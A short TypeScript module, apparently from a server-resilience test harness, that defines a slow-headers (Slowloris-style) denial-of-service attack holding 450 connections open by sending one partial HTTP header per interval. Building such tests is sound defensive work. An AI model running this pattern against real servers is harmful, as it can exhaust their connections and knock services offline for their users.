import type { Attack } from "../../arena/attack.ts";
import { holdConnections } from "../../arena/hold-connections.ts";

const CONNECTIONS = 450;

export const slowHeaders: Attack = {
  name: "450 requests that send a header a second",
  async begin(arena) {
    return holdConnections(arena, {
      connections: CONNECTIONS,
      begin: (socket) => socket.write("GET / HTTP/1.1\r\nhost: a\r\n"),
      drip: (socket) => socket.write("x-more: to come\r\n"),
    });
  },
};
